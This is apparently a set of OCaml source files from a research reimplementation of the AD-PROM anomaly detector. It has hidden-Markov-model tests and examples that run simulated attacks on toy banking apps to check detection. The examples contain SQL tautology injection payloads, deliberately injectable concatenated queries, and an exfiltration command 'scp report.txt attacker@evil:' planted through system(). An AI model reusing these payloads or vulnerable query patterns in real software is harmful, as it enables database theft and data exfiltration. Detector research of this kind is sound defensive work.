      let p = ref (t.Hmm.pi.(path.(0)) *. Matrix.get t.Hmm.b path.(0) obs.(0)) in
      for step = 1 to len - 1 do
        p :=
          !p
          *. Matrix.get t.Hmm.a path.(step - 1) path.(step)
          *. Matrix.get t.Hmm.b path.(step) obs.(step)
      done;
      acc +. !p)
    0.0 (paths len)

let brute_force_viterbi (t : Hmm.t) obs =
  let len = Array.length obs in
  let rec paths depth =
    if depth = 0 then [ [] ]
    else List.concat_map (fun p -> List.init t.Hmm.n (fun s -> s :: p)) (paths (depth - 1))
  in
  List.fold_left
    (fun (best_p, best_path) path ->
      let arr = Array.of_list path in
      let p = ref (t.Hmm.pi.(arr.(0)) *. Matrix.get t.Hmm.b arr.(0) obs.(0)) in
      for step = 1 to len - 1 do
        p :=
          !p
          *. Matrix.get t.Hmm.a arr.(step - 1) arr.(step)
          *. Matrix.get t.Hmm.b arr.(step) obs.(step)
      done;
      if !p > best_p then (!p, arr) else (best_p, best_path))
    (neg_infinity, [||])
    (paths len)

let test_create_validation () =
  let bad_a = Matrix.of_arrays [| [| 0.9; 0.3 |]; [| 0.4; 0.6 |] |] in
  Alcotest.(check bool) "bad rows rejected" true
    (match
       Hmm.create ~a:bad_a
         ~b:(Matrix.of_arrays [| [| 1.0 |]; [| 1.0 |] |])
         ~pi:[| 0.5; 0.5 |]
     with
    | _ -> false
    | exception Invalid_argument _ -> true);
  Alcotest.(check bool) "uniform model valid" true
    (match Hmm.validate (Hmm.uniform ~n:3 ~m:4) with Ok () -> true | Error _ -> false);
  let rng = Rng.create 1 in
  Alcotest.(check bool) "random model valid" true
    (match Hmm.validate (Hmm.random ~rng ~n:5 ~m:7) with Ok () -> true | Error _ -> false)

let test_forward_matches_brute_force () =
  let t = tiny () in
  List.iter
    (fun obs ->
      let obs = Array.of_list obs in
      let expected = log (brute_force_likelihood t obs) in
      Alcotest.(check (float 1e-9))
        (Printf.sprintf "sequence of length %d" (Array.length obs))
        expected (Hmm.log_likelihood t obs))
    [ [ 0 ]; [ 2 ]; [ 0; 1 ]; [ 2; 2; 0 ]; [ 1; 0; 2; 1 ]; [ 0; 0; 0; 0; 0 ] ]

let test_impossible_sequence () =
  (* State emissions exclude symbol 1 entirely. *)
  let t =
    Hmm.create
      ~a:(Matrix.of_arrays [| [| 1.0 |] |])
      ~b:(Matrix.of_arrays [| [| 1.0; 0.0 |] |])
      ~pi:[| 1.0 |]
  in
  Alcotest.(check (float 0.0)) "impossible is -inf" neg_infinity (Hmm.log_likelihood t [| 0; 1 |]);
  Alcotest.(check (float 0.0)) "empty sequence is 0" 0.0 (Hmm.log_likelihood t [||])

let test_observation_range () =
  let t = tiny () in
  Alcotest.(check bool) "out-of-range observation rejected" true
    (match Hmm.log_likelihood t [| 0; 3 |] with
    | _ -> false
    | exception Invalid_argument _ -> true)

let test_viterbi_matches_brute_force () =
  let t = tiny () in
  List.iter
    (fun obs ->
      let obs = Array.of_list obs in
      let path, logp = Hmm.viterbi t obs in
      let bf_p, bf_path = brute_force_viterbi t obs in
      Alcotest.(check (float 1e-9)) "viterbi log-probability" (log bf_p) logp;
      Alcotest.(check (array int)) "viterbi path" bf_path path)
    [ [ 0; 1 ]; [ 2; 2; 0 ]; [ 1; 0; 2; 1 ] ]

let test_forward_backward_consistency () =
  (* Likelihood computed from backward at t=0 must agree with forward. *)
  let t = tiny () in
  let obs = [| 0; 2; 1; 1; 0 |] in
  let _, scale = Hmm.forward t obs in
  let beta = Hmm.backward t obs scale in
  (* sum_i pi_i b_i(o0) beta_hat_0(i) = P(O) / prod(scale) * ... ; with
     our scaling the identity is sum_i pi_i b_i(o0) beta0(i) = 1. *)
  let acc = ref 0.0 in
  for i = 0 to t.Hmm.n - 1 do
    acc := !acc +. (t.Hmm.pi.(i) *. Matrix.get t.Hmm.b i obs.(0) *. beta.(0).(i))
  done;
  Alcotest.(check (float 1e-9)) "backward closes the recursion" 1.0 !acc

let test_baum_welch_improves () =
  let rng = Rng.create 42 in
  let t0 = Hmm.random ~rng ~n:3 ~m:4 in
  let seqs = [ ([| 0; 1; 2; 3; 0; 1; 2; 3 |], 1.0); ([| 0; 1; 0; 1 |], 2.0) ] in
  let t1, ll1 = Hmm.baum_welch_step t0 seqs in
  let _, ll2 = Hmm.baum_welch_step t1 seqs in
  Alcotest.(check bool) "one EM step improves the likelihood" true (ll2 >= ll1 -. 1e-9)

let prop_baum_welch_monotone =
  QCheck2.Test.make ~name:"EM is monotone on random instances" ~count:30
    QCheck2.Gen.(pair (int_range 1 1000) (int_range 2 4))
    (fun (seed, n) ->
      let rng = Rng.create seed in
      let t0 = Hmm.random ~rng ~n ~m:3 in
      let seqs =
        List.init 4 (fun i ->
            (Array.init (4 + (i mod 3)) (fun j -> (seed + i + j) mod 3), 1.0))
      in
      let t1, ll1 = Hmm.baum_welch_step t0 seqs in
      let _, ll2 = Hmm.baum_welch_step t1 seqs in
      (* The epsilon smoothing can cost a hair of likelihood; allow a
         small tolerance. *)
      ll2 >= ll1 -. 1e-3)

let test_fit_learns_pattern () =
  (* Alternating observations: a 2-state model must learn it and assign
     much higher likelihood to alternation than to repetition. *)
  let rng = Rng.create 7 in
  let t0 = Hmm.random ~rng ~n:2 ~m:2 in
  let train = [ (Array.init 20 (fun i -> i mod 2), 1.0) ] in
  let t, history = Hmm.fit ~max_iterations:60 t0 train in
  Alcotest.(check bool) "fit produced iterations" true (List.length history > 0);
  let good = Hmm.per_symbol_score t (Array.init 10 (fun i -> i mod 2)) in
  let bad = Hmm.per_symbol_score t (Array.make 10 0) in
  Alcotest.(check bool) "alternation preferred after training" true (good > bad +. 0.5)

let test_per_symbol_score () =
  let t = tiny () in
  let obs = [| 0; 1; 2 |] in
  Alcotest.(check (float 1e-9)) "score is loglik / length"
    (Hmm.log_likelihood t obs /. 3.0)
    (Hmm.per_symbol_score t obs)

let test_sample_distribution () =
  (* A deterministic cycle model must sample its cycle. *)
  let t =
    Hmm.create
      ~a:(Matrix.of_arrays [| [| 0.0; 1.0 |]; [| 1.0; 0.0 |] |])
      ~b:(Matrix.of_arrays [| [| 1.0; 0.0 |]; [| 0.0; 1.0 |] |])
      ~pi:[| 1.0; 0.0 |]
  in
  let rng = Rng.create 5 in
  let obs = Hmm.sample ~rng t 8 in
  Alcotest.(check (array int)) "alternating sample" [| 0; 1; 0; 1; 0; 1; 0; 1 |] obs;
  Alcotest.(check (float 1e-9)) "sample has probability 1" 0.0 (Hmm.log_likelihood t obs)

let test_sample_scores_high () =
  let rng = Rng.create 17 in
  let t = Hmm.random ~rng ~n:3 ~m:5 in
  let own = Hmm.per_symbol_score t (Hmm.sample ~rng t 40) in
  (* Uniform noise over the alphabet should look worse on average. *)
  let noise = Array.init 40 (fun i -> (i * 7) mod 5) in
  let other = Hmm.per_symbol_score t noise in
  Alcotest.(check bool) "finite scores" true (Float.is_finite own && Float.is_finite other)

let test_step_surprisals () =
  let t = tiny () in
  let obs = [| 0; 1; 2; 0 |] in
  let s = Hmm.step_surprisals t obs in
  Alcotest.(check int) "one surprisal per step" 4 (Array.length s);
  let total = Array.fold_left ( +. ) 0.0 s in
  Alcotest.(check (float 1e-9)) "surprisals sum to -loglik" (-.Hmm.log_likelihood t obs) total

let test_stochastic_after_em () =
  let rng = Rng.create 9 in
  let t0 = Hmm.random ~rng ~n:3 ~m:3 in
  let t1, _ = Hmm.baum_welch_step t0 [ ([| 0; 1; 2; 0 |], 1.0) ] in
  Alcotest.(check bool) "re-estimated model is valid" true
    (match Hmm.validate t1 with Ok () -> true | Error _ -> false)

let () =
  Alcotest.run "hmm"
    [
      ( "model",
        [
          Alcotest.test_case "validation" `Quick test_create_validation;
          Alcotest.test_case "observation range" `Quick test_observation_range;
        ] );
      ( "evaluation",
        [
          Alcotest.test_case "forward = brute force" `Quick test_forward_matches_brute_force;
          Alcotest.test_case "impossible / empty sequences" `Quick test_impossible_sequence;
          Alcotest.test_case "forward/backward consistency" `Quick test_forward_backward_consistency;
          Alcotest.test_case "per-symbol score" `Quick test_per_symbol_score;
        ] );
      ( "decoding",
        [ Alcotest.test_case "viterbi = brute force" `Quick test_viterbi_matches_brute_force ] );
      ( "sampling",
        [
          Alcotest.test_case "deterministic cycle" `Quick test_sample_distribution;
          Alcotest.test_case "samples score finitely" `Quick test_sample_scores_high;
          Alcotest.test_case "step surprisals decompose loglik" `Quick test_step_surprisals;
        ] );
      ( "learning",
        [
          Alcotest.test_case "one EM step improves" `Quick test_baum_welch_improves;
          Alcotest.test_case "EM keeps the model stochastic" `Quick test_stochastic_after_em;
          Alcotest.test_case "fit learns an alternating pattern" `Quick test_fit_learns_pattern;
          QCheck_alcotest.to_alcotest prop_baum_welch_monotone;
        ] );
    ]

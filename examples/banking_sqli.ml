(* Attack 5 end to end on the banking application (Fig. 2 / Table V):
   the unprepared client lookup is exploited with the tautology
   [1' OR '1'='1], every client record is harvested, and AD-PROM's
   Detection Engine flags the windows with the Data-Leak flag.

   Run with:  dune exec examples/banking_sqli.exe *)

let () =
  let case = Dataset.Ca_attacks.attack5 () in
  let app = case.Dataset.Ca_attacks.app in
  Printf.printf "Training the AD-PROM profile of %s ...\n%!" app.Adprom.Pipeline.name;
  let dataset = Adprom.Pipeline.collect app in
  let profile = Adprom.Pipeline.train dataset in
  Printf.printf "  %d normal sequences, threshold %.3f\n\n"
    (List.length dataset.Adprom.Pipeline.windows)
    profile.Adprom.Profile.threshold;

  Printf.printf "Attack: %s\n\n" case.Dataset.Ca_attacks.scenario.Attack.Scenario.description;
  let malicious_traces =
    Attack.Scenario.run case.Dataset.Ca_attacks.scenario app
  in
  (* Show the detection on the first poisoned run. *)
  (match malicious_traces with
  | (tc, trace) :: _ ->
      Printf.printf "Trace of %s (%d calls):\n" tc.Runtime.Testcase.name (Array.length trace);
      Array.iteri
        (fun i (e : Runtime.Collector.event) ->
          if i < 24 then
            Printf.printf "  %-24s from %s\n"
              (Analysis.Symbol.to_string e.Runtime.Collector.symbol)
              e.Runtime.Collector.caller)
        trace;
      if Array.length trace > 24 then Printf.printf "  ... (%d more)\n" (Array.length trace - 24);
      let verdicts = Adprom.Detector.monitor profile trace in
      let counts = Hashtbl.create 4 in
      List.iter
        (fun (_, (v : Adprom.Detector.verdict)) ->
          let key = Adprom.Detector.flag_to_string v.Adprom.Detector.flag in
          Hashtbl.replace counts key
            (1 + Option.value ~default:0 (Hashtbl.find_opt counts key)))
        verdicts;
      Printf.printf "\nWindow verdicts:\n";
      Hashtbl.iter (fun flag n -> Printf.printf "  %-16s %d\n" flag n) counts;
      Printf.printf "\nOverall: %s\n"
        (Adprom.Detector.flag_to_string
           (Adprom.Detector.worst (List.map snd verdicts)))
  | [] -> print_endline "no malicious traces produced");

  (* The second detection axis: the same attack seen by the trained
     query-signature engine (what `adprom qsig train banking` followed
     by `adprom qsig check` does from the shell). *)
  Printf.printf "\nQuery axis (signature + constraint + band engine):\n";
  let qengine = Adprom.Pipeline.train_qsig_engine app in
  let seq_hit = ref false and query_hit = ref false in
  List.iter
    (fun (_, trace) ->
      let worst =
        Adprom.Detector.worst (List.map snd (Adprom.Detector.monitor profile trace))
      in
      if worst = Adprom.Detector.Data_leak || worst = Adprom.Detector.Out_of_context
      then seq_hit := true)
    malicious_traces;
  List.iter
    (fun (tc, qlog) ->
      List.iter
        (fun (sql, rows) ->
          let v = Adprom_qsig.Engine.check ~rows qengine sql in
          if v.Adprom_qsig.Engine.anomalous then begin
            query_hit := true;
            Printf.printf "  %s: %s\n    %s\n" tc.Runtime.Testcase.name
              (Adprom_qsig.Engine.verdict_to_string v)
              sql
          end)
        qlog)
    (Attack.Qmutate.run_logs case.Dataset.Ca_attacks.scenario app);
  Printf.printf "\nFused two-axis verdict: %s\n"
    (match (!seq_hit, !query_hit) with
    | true, true -> "both axes fired"
    | true, false -> "sequence axis only"
    | false, true -> "query axis only"
    | false, false -> "no alarm")

fun main() {
  let acc = scanf();
  printf("%s\n", acc);
}

fun orphan(x) {
  printf("never called %s\n", x);
}

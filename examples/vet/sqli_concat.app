fun main() {
  let conn = db_connect("mysql");
  let acc = scanf();
  let q = strcat("SELECT name, balance FROM clients WHERE id='", strcat(acc, "'"));
  if (mysql_query(conn, q) != 0) {
    printf("query error\n");
    exit();
  }
  let res = mysql_store_result(conn);
  let row = mysql_fetch_row(res);
  while (row != null) {
    printf("%s %s\n", row[0], row[1]);
    row = mysql_fetch_row(res);
  }
}

fun main() {
  let acc = scanf();
  sanitize(acc);
  printf("%s\n", acc);
}

fun main() {
  let acc = scanf();
  if (acc == null) {
    return;
    printf("never reached\n");
  }
  printf("%s\n", acc);
}

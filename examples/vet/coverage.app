// Coverage fixture: a profile trained only on the `puts` path misses
// the statically reachable `printf` (uncovered-symbol / uncovered-pair),
// and a profile claiming calls this program cannot make fails hard
// (profile-symbol-unreachable / profile-pair-impossible).
fun main() {
  puts("hi");
  printf("x\n");
}

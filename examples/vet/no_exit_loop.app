fun main() {
  let conn = db_connect("mysql");
  while (true) {
    let row = mysql_fetch_row(conn);
    printf("%s\n", row[0]);
  }
}

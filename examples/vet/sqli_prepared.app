fun main() {
  let conn = db_connect("mysql");
  let acc = scanf();
  let stmt = mysql_prepare(conn, "SELECT name, balance FROM clients WHERE id = ?");
  let res = mysql_stmt_execute(conn, stmt, acc);
  let row = mysql_fetch_row(res);
  while (row != null) {
    printf("%s %s\n", row[0], row[1]);
    row = mysql_fetch_row(res);
  }
}

fun main() {
  let acc = scanf();
  if (acc != null) {
    let label = strcat("id:", acc);
    printf("%s\n", label);
  }
  printf("%s\n", label);
}

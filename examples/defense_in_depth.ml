(* Defense in depth: the Sec. VII mitigations working alongside the
   call-sequence detector.

   1. An attacker rewrites the query so it returns the SAME number of
      rows (equal selectivity): the call sequence is unchanged, so the
      HMM detector stays silent — exactly the limitation the paper
      acknowledges. The query-signature profile (Qsig) catches it.
   2. An attacker stages targeted data into a file and ships it with a
      shell command: the staging writes are normal-looking, but the file
      is labeled by the dynamic data-flow tracking, and the audit flags
      the command touching it.

   Run with:  dune exec examples/defense_in_depth.exe *)

let source =
  {|
fun main() {
  let conn = db_connect("pg");
  let id = scanf();
  let q = strcat(strcat("SELECT name FROM clients WHERE id = '", id), "'");
  let r = pq_exec(conn, q);
  let n = pq_ntuples(r);
  for (let i = 0; i < n; i = i + 1) {
    printf("%s\n", pq_getvalue(r, i, 0));
  }
  archive(r, n);
}

// legitimate feature: archive the displayed records to a report file
fun archive(r, n) {
  let f = fopen("report.txt", "a");
  for (let i = 0; i < n; i = i + 1) {
    fprintf(f, "%s\n", pq_getvalue(r, i, 0));
  }
  fclose(f);
}
|}

let app =
  {
    Adprom.Pipeline.name = "defense-in-depth";
    source;
    dbms = "PostgreSQL";
    setup_db =
      (fun e ->
        ignore (Sqldb.Engine.exec e "CREATE TABLE clients (id, name)");
        for i = 0 to 19 do
          ignore
            (Sqldb.Engine.exec e
               (Printf.sprintf "INSERT INTO clients VALUES (%d, 'user%d')" (100 + i) i))
        done);
    test_cases =
      List.init 12 (fun i ->
          Runtime.Testcase.make ~input:[ string_of_int (100 + i) ] (Printf.sprintf "n%d" i));
  }

let () =
  let dataset = Adprom.Pipeline.collect app in
  let analysis = dataset.Adprom.Pipeline.analysis in
  let profile = Adprom.Pipeline.train dataset in
  (* Learn the query-signature profile from the same training runs. *)
  let outcomes =
    List.map
      (fun tc -> snd (Adprom.Pipeline.run_case ~analysis app tc))
      app.Adprom.Pipeline.test_cases
  in
  let qsig = Adprom.Audit.learn outcomes in
  Printf.printf "Trained: HMM profile (threshold %.3f) + %d query signature(s)\n\n"
    profile.Adprom.Profile.threshold (Adprom.Qsig.cardinality qsig);

  let examine label input =
    let tc = Runtime.Testcase.make ~input:[ input ] label in
    let trace, outcome = Adprom.Pipeline.run_case ~analysis app tc in
    let hmm_flag =
      Adprom.Detector.flag_to_string
        (Adprom.Detector.worst (List.map snd (Adprom.Detector.monitor profile trace)))
    in
    let findings = Adprom.Audit.audit ~qsig outcome in
    Printf.printf "%-24s HMM: %-10s audit findings: %d\n" label hmm_flag
      (List.length findings);
    List.iter
      (fun f -> Printf.printf "    - %s\n" (Adprom.Audit.finding_to_string f))
      findings
  in
  examine "honest lookup" "105";
  (* Equal selectivity: one row comes back, the call sequence matches
     training exactly — only the signature profile notices. *)
  examine "equal-selectivity theft" "' OR id = '119";

  (* Staged exfiltration: patch the binary so the archive loop also
     issues a shell upload of the report file. *)
  print_newline ();
  let upload = "scp report.txt attacker@evil:" in
  let poisoned =
    {
      app with
      Adprom.Pipeline.source =
        (let p = Applang.Parser.parse_program source in
         let p =
           Attack.Mutate.append_to_function p ~func:"main"
             [ Applang.Ast.Expr (Applang.Parser.parse_expr (Printf.sprintf "system(%S)" upload)) ]
         in
         Applang.Pretty.program_to_string p);
    }
  in
  let analysis' = Adprom.Pipeline.analyze_app poisoned in
  let tc = Runtime.Testcase.make ~input:[ "105" ] "staged" in
  let _, outcome = Adprom.Pipeline.run_case ~analysis:analysis' poisoned tc in
  Printf.printf "staged exfiltration      labeled files: [%s]\n"
    (String.concat "; " outcome.Runtime.Interp.tainted_files);
  List.iter
    (fun f -> Printf.printf "    - %s\n" (Adprom.Audit.finding_to_string f))
    (Adprom.Audit.audit ~qsig outcome);

  (* 3. The full query-mutation family (tautology widening, cardinality
     blowup, out-of-band literals) against this app: the call sequence
     stays intact in every variant, so only the query axis can see it. *)
  print_newline ();
  let qengine = Adprom.Qsig.engine qsig in
  let caught_of scenario =
    List.exists
      (fun (_, qlog) ->
        List.exists
          (fun (sql, rows) ->
            (Adprom_qsig.Engine.check ~rows qengine sql).Adprom_qsig.Engine.anomalous)
          qlog)
      (Attack.Qmutate.run_logs scenario app)
  in
  List.iter
    (fun kind ->
      let scenario = Attack.Qmutate.scenario kind in
      Printf.printf "query-mutation %-22s query axis: %s\n"
        (Attack.Qmutate.kind_to_string kind)
        (if caught_of scenario then "CAUGHT" else "missed"))
    Attack.Qmutate.all_kinds;

  (* 4. Attack 5 (the paper's banking tautology injection) through the
     query axis alone — the CI gate greps this line. *)
  let case = Dataset.Ca_attacks.attack5 () in
  let banking = case.Dataset.Ca_attacks.app in
  let bank_engine = Adprom.Pipeline.train_qsig_engine banking in
  let attack5_caught =
    List.exists
      (fun (_, qlog) ->
        List.exists
          (fun (sql, rows) ->
            (Adprom_qsig.Engine.check ~rows bank_engine sql)
              .Adprom_qsig.Engine.anomalous)
          qlog)
      (Attack.Qmutate.run_logs case.Dataset.Ca_attacks.scenario banking)
  in
  Printf.printf "\nAttack 5 via query axis: %s\n"
    (if attack5_caught then "CAUGHT" else "MISSED")
